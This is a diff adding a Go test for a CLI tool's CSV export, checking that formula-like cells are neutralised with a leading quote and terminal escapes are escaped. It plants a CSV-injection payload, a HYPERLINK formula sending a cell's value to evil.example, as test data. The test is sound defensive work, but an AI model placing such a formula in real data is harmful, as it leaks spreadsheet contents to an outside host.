@@ -1,7 +1,9 @@
 package cli_test
 
 import (
+	"encoding/csv"
 	"encoding/json"
+	"slices"
 	"strings"
 	"testing"
 	"time"
@@ -138,5 +140,53 @@ func TestTextOutputsEscapeWhatATerminalWouldObey(t *testing.T) {
 	code, out, _ = ponte("order", "show", order, "--json")
 	if code != cli.ExitOK || !strings.Contains(out, `\u001b]52;c;`) || obeyed(out) != "" {
 		t.Errorf("order show --json: %d\n%s", code, out)
+	}
+}
+
+// A CSV cell that a spreadsheet would take as a formula starts with a single quote (OWASP's
+// rule: =, +, -, @, tab, carriage return); one holding what a terminal would obey is escaped.
+// The JSON lines keep the value.
+func TestCSVExportDefusesFormulas(t *testing.T) {
+	db, sm, url := syncedDB(t, 40)
+	ponte := func(args ...string) (int, string, string) {
+		return ponteIn("", append([]string{"--db", db, "--sga-url", url}, args...)...)
+	}
+	v := ourVehicle(t, sm)
+	var imported []struct{ Contract, Order string }
+	code, out, errOut := ponte("import", v.Plate, "--client", v.MemberCPF, "--json")
+	if code != cli.ExitOK || json.Unmarshal([]byte(out), &imported) != nil || len(imported) != 1 {
+		t.Fatalf("import: %d %q %q", code, out, errOut)
+	}
+	const formula = `=HYPERLINK("http://evil.example/?"&A1,"clique")`
+	if code, _, errOut := ponte("order", "cancel", imported[0].Order, "--reason", formula, "--contract", "keep"); code != cli.ExitOK {
+		t.Fatalf("cancel: %d %q", code, errOut)
+	}
+	code, out, errOut = ponte("export", "orders", "--format", "csv")
+	if code != cli.ExitOK {
+		t.Fatalf("export orders --format csv: %d %q", code, errOut)
+	}
+	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
+	if err != nil || len(rows) != 2 {
+		t.Fatalf("export orders --format csv: %v\n%s", err, out)
+	}
+	for i, name := range rows[0] {
+		if name == "cancel_reason" && rows[1][i] != "'"+formula {
+			t.Errorf("cancel_reason cell %q, want %q", rows[1][i], "'"+formula)
+		}
+	}
+	if !slices.Contains(rows[0], "cancel_reason") {
+		t.Fatalf("no cancel_reason column: %q", rows[0])
+	}
+	code, out, _ = ponte("export", "orders")
+	if code != cli.ExitOK || !strings.Contains(out, `"cancel_reason":"=HYPERLINK(`) {
+		t.Errorf("export orders: %d\n%s", code, out)
+	}
+
+	poison(t, db, map[string]string{"cancel_reason": evilNote})
+	for _, args := range [][]string{{"export", "orders", "--format", "csv"}, {"export", "orders"}} {
+		code, out, _ := ponte(args...)
+		if c := obeyed(strings.ReplaceAll(out, "\n", "")); code != cli.ExitOK || c != "" {
+			t.Errorf("ponte %s printed %q raw:\n%s", strings.Join(args, " "), c, out)
+		}
 	}
 }
